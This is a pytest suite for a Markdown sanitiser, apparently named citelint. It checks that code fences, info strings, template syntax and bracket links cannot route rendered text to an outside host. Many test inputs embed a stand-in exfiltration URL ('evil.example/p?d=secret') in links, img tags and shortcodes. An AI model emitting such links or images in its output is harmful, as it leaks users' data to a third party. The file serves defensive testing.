"""The marks around code, fences' languages, and other tools' syntax in prose."""

from __future__ import annotations

from typing import Any

import pytest

import citelint
from citelint.checks.syntax import executed_languages
from tests.renderers.matrix import outside, sinks_by_renderer

MANIFEST = citelint.Manifest.from_dict({"version": 1, "run": {"id": "run"}, "sources": []})
LEAK = "https://evil.example/p?d=secret"


def _fix(text: str, **settings: Any) -> citelint.Result:
    return citelint.fix(text, MANIFEST, policy=citelint.Policy(required=False, **settings))


def _codes(result: citelint.Result) -> set[str]:
    return {finding.code for finding in result.findings}


# Code keeps its bytes


@pytest.mark.parametrize(
    "text",
    [
        "```python\nprint(a[1], b['x'][2])\n```\n",
        "```\nplain [1] 【4:0†source】\n```\n",
        f"```md\n[x]({LEAK})\n```\n",
        f"```html\n<img src='{LEAK}'>\n```\n",
        f"````\n```\n[x]({LEAK})\n```\n````\n",
        f"~~~~\n{LEAK}\n~~~~\n",
        "    plain [1] 【4:0†source】\n",
        f"Write `[x]({LEAK})` or `{LEAK}`.\n",
        f"- item\n\n  ```\n  {LEAK}\n  ```\n",
        "> ```c++\n> a[1]\n> ```\n",
        "```objective-c\nx\n```\n",
        "Unclosed:\n\n```\nplain text\n",
    ],
)
def test_code_comes_back_as_it_was(text: str) -> None:
    result = _fix(text)
    assert result.text == text
    assert result.findings == ()


# Fences on which parsers disagree


@pytest.mark.parametrize(
    ("text", "fixed"),
    [
        (f"~~~\n[x]({LEAK})\n~~~\n", f"```\n[x]({LEAK})\n```\n"),
        (f"~~~\n```\n[x]({LEAK})\n~~~\n", f"````\n```\n[x]({LEAK})\n````\n"),
        (f"~~~\na ```` b\n[x]({LEAK})\n~~~\n", f"`````\na ```` b\n[x]({LEAK})\n`````\n"),
        (f"```\n[x]({LEAK})\n", f"```\n[x]({LEAK})\n```\n"),
    ],
)
def test_a_fence_around_something_live_is_written_so_that_all_see_it(text: str, fixed: str) -> None:
    result = _fix(text)
    assert result.text == fixed
    assert _codes(result) == {"CL304"}
    assert _fix(fixed).text == fixed


LINK = f"[x]({LEAK})"
TAG = f"<img src={LEAK}>"


@pytest.mark.parametrize(
    ("text", "fixed"),
    [
        (f"a\n\n    {LEAK}\n\n      {TAG}\nb\n", f"a\n\n```\n{LEAK}\n\n  {TAG}\n```\nb\n"),
        (f">\n    >{LINK}", f">\n```\n>{LINK}\n```"),
        (f"|a|\n|-|\n    ```{LINK}\n", f"|a|\n|-|\n````\n```{LINK}\n````\n"),
        (f"x\n:   y\n\n\t{LINK}\n", f"x\n:   y\n\n```\n{LINK}\n```\n"),
        (f" ```\n {LINK}\n ```\n", f"```\n{LINK}\n```\n"),
        (f"x ``{LINK}\n: y`` z\n", f"x ``{LINK} : y`` z\n"),
        (f"> x `a\n> {TAG}` z\n", f"> x `a {TAG}` z\n"),
        (f"> ```\n> {LINK}", f"> ```\n> {LINK}\n> ```"),
        (f"$$\n```\n$$\n{LINK}\n```\n", f"&#36;&#36;\n```\n$$\n{LINK}\n```\n"),
    ],
)
def test_code_that_some_read_as_text_is_written_so_that_all_see_code(text: str, fixed: str) -> None:
    result = _fix(text)
    assert result.text == fixed
    assert _codes(result) == {"CL304"}
    assert _fix(fixed).text == fixed


@pytest.mark.parametrize(
    "text", [f"-     {LINK}\n", f"1.  \t{TAG}\n      y\n", f"> a\n>\n>     {LINK}\n>\n>     b\n"]
)
def test_indented_code_deep_in_blocks_becomes_text(text: str) -> None:
    result = _fix(text)
    assert _codes(result) == {"CL304"}
    assert LEAK not in result.text
    assert _fix(result.text).text == result.text
    for name, found in sinks_by_renderer(result.text):
        assert outside([found], []) == [], name


def test_indented_code_that_leads_only_where_it_may_stays() -> None:
    text = "    curl https://docs.example.org/a\n"
    assert _fix(text, allow=("https://docs.example.org/",)).text == text


def test_a_fence_around_nothing_live_keeps_its_marks() -> None:
    text = "~~~python\na[1]\n~~~\n"
    assert _fix(text).text == text


def test_a_lone_backtick_beside_live_code_pairs_with_nothing() -> None:
    result = _fix(f"See `[x]({LEAK})` and ` alone.\n")
    assert result.text == f"See `[x]({LEAK})` and &#96; alone.\n"
    assert _codes(result) == {"CL304"}


def test_a_lone_backtick_elsewhere_stays() -> None:
    text = "See `a[1]` and ` alone.\n"
    assert _fix(text).text == text


def test_prose_does_not_use_a_label_that_code_defines() -> None:
    result = _fix(f"```\n[here]: {LEAK}\n```\n\nSee [Here] now.\n")
    assert result.text == f"```\n[here]: {LEAK}\n```\n\nSee &#91;Here] now.\n"


# Info strings


@pytest.mark.parametrize(
    "language", ["mermaid", "MERMAID", "geojson", "eval-rst", "plantuml", "image", "raw"]
)
@pytest.mark.parametrize("marks", ["```", "~~~", "`````"])
def test_a_language_that_somebody_executes_is_lost(language: str, marks: str) -> None:
    result = _fix(f"{marks}{language}\nx\n{marks}\n")
    assert result.text == f"{marks}\nx\n{marks}\n"
    assert _codes(result) == {"CL307"}


@pytest.mark.parametrize(
    ("info", "left"),
    [
        ("{=html}", ""),
        (f"{{image}} {LEAK}", ""),
        ("{raw} html", ""),
        ("{.python .numberLines}", ""),
        ('python title="x"', "python"),
        (f"python {LEAK}", "python"),
        ("js {1,3}", "js"),
        (f"[x]({LEAK})", ""),
        ("mermaid extra", ""),
    ],
)
def test_of_an_info_string_one_plain_word_is_left(info: str, left: str) -> None:
    result = _fix(f"```{info}\nx\n```\n")
    assert result.text == f"```{left}\nx\n```\n"
    assert "CL307" in _codes(result)


def test_common_languages_are_not_among_the_executed() -> None:
    common = {
        "python",
        "json",
        "html",
        "js",
        "sql",
        "bash",
        "console",
        "text",
        "md",
        "markdown",
        "yaml",
        "diff",
    }
    assert executed_languages().isdisjoint(common)


# Other tools' syntax in prose


@pytest.mark.parametrize(
    ("text", "fixed"),
    [
        ("A {% include x %} b\n", "A &#123;% include x %} b\n"),
        ("A word{: href=x } b\n", "A word&#123;: href=x } b\n"),
        ("# Title {#top .x}\n", "# Title &#123;#top .x}\n"),
        ("A word{href=x}\n", "A word&#123;href=x}\n"),
        ("`x`{=html} b\n", "`x`&#123;=html} b\n"),
        ("A [[Page]] b\n", "A &#91;&#91;Page]] b\n"),
        ("A ![[image.png]] b\n", "A !&#91;&#91;image.png]] b\n"),
        ("A^[a note] b\n", "A^&#91;a note] b\n"),
        ("import x from 'y'\n", "&#105;mport x from 'y'\n"),
        ('export const x = "y"\n', '&#101;xport const x = "y"\n'),
        ('!include "x"\n', '&#33;include "x"\n'),
    ],
)
def test_what_another_tool_would_act_on_becomes_text(text: str, fixed: str) -> None:
    result = _fix(text)
    assert result.text == fixed
    assert _codes(result) == {"CL307"}


@pytest.mark.parametrize("text", ["A {{ x }} b\n", "A {{< x >}} b\n", "{{% x %}}\n", "A {# x #} b\n"])
def test_no_template_braces_are_left(text: str) -> None:
    result = _fix(text)
    assert not any(mark in result.text for mark in ("{{", "{%", "{#"))
    assert _codes(result) == {"CL307"}


@pytest.mark.parametrize("code", ["`{{{{ {0} }}}}`", "```\n{{{{< image src={0} >}}}}\n```", "`{{%  {0} %}}`"])
def test_a_template_in_code_runs_all_the_same_so_its_address_is_broken(code: str) -> None:
    result = _fix(code.format(LEAK) + "\n")
    assert LEAK not in result.text
    assert "hxxps://evil[.]example/p?d=secret" in result.text
    assert _codes(result) == {"CL307"}


@pytest.mark.parametrize(
    "text",
    [
        "The set {a, b, c} has three.\n",
        "Taxes on import rise, and export falls.\n",
        "import taxes rise\n",
        "He said: { and }.\n",
        "An ellipsis .. and more\n",
        "Use `{{ name }}` in templates.\n",
        "x * y [z] * w\n",
        "Save 5^2 and a[i].\n",
    ],
)
def test_words_that_only_look_like_it_stay(text: str) -> None:
    result = _fix(text)
    assert (result.text, result.findings) == (text, ())


def test_formulas_stay_but_for_what_a_template_engine_reads() -> None:
    text = "Area $x_{1} \\in [1, 2]$ and $$\\sum_{i=1}^{n} a_i$$.\n"
    assert _fix(text).text == text
    assert _fix("So $\\frac{{a}}{b}$.\n").text == "So $\\frac{ {a}}{b}$.\n"


# Brackets that are a link to somebody


@pytest.mark.parametrize(
    "text",
    [f"[x] ({LEAK})", f"\\[x]({LEAK})", f"[x\n\ny]({LEAK})", f"[x](\n\n{LEAK})", f"[[x]({LEAK})]({LEAK})"],
)
def test_no_bracket_leads_anywhere(text: str) -> None:
    result = _fix(f"{text}\n")
    assert "evil.example" not in result.text


def test_a_label_in_the_middle_of_a_paragraph_defines_nothing() -> None:
    result = _fix(f"See [x] now,\n[x]: {LEAK}\n")
    assert "evil.example" not in result.text
    assert "]: " not in result.text
